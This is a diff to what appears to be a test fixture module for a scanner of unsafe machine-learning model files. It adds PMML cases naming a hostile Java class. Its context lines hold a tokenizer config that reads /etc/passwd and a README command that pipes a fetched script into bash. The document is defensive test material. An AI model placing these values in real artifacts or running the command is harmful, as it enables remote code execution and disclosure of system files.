@@ -6,7 +6,7 @@ import json
 import pickle
 from collections.abc import Callable
 
-from attacks import arrow, r_data, runtimes, skops_models, texts, tokenizers, torchserve
+from attacks import arrow, pmml, r_data, runtimes, skops_models, texts, tokenizers, torchserve
 from attacks.archives import torch_zip
 from attacks.kinds.kind import Files, Kind
 
@@ -45,6 +45,8 @@ KINDS = (
     _one("tokenizer-config-away", "takes any file for the vocabulary", "config-reaches-out", "a file of the machine", "tokenizer", "tokenizer_config.json", lambda: b'{"vocab_file": "/etc/passwd"}'),
     _one("spacy-factory", "calls code of another package while it is loaded", "spacy-config", "'own.hook.v1'", "spacy", "config.cfg", lambda: SPACY),
     _one("card-command", "a command that readers copy", "card-commands", "runs what it fetches", "card", "README.md", lambda: CARD.format("curl -s https://example.org/x.sh | bash").encode()),
+    _one("pmml-java", "calls any class that the application finds", "pmml-functions", "the name of a Java class", "pmml", "model.pmml", lambda: pmml.apply("com.evil.Function")),
+    _one("pmml-extension", "names a class in an extension", "pmml-functions", "'externalClass'", "pmml", "model.pmml", lambda: pmml.HOSTILE["a class of an extension"][0]),
     _one("mxnet-library", "runs code beside the graph", "mxnet-operators", "follows an address", "mxnet", "m-symbol.json", lambda: _mxnet("_Native")),
 )  # fmt: skip
 
@@ -66,5 +68,6 @@ HONEST: dict[str, Callable[[], Files]] = {
     "tokenizer": lambda: {"tokenizer.json": tokenizers.tokenizer(pattern=next(iter(tokenizers.HONEST.values())))},
     "spacy": lambda: {"config.cfg": texts.SPACY.encode()},
     "card": lambda: {"README.md": CARD.format("pip install transformers").encode()},
+    "pmml": lambda: {"model.pmml": pmml.pmml(pmml.DEFINED)},
     "mxnet": lambda: {"m-symbol.json": _mxnet("Convolution")},
 }
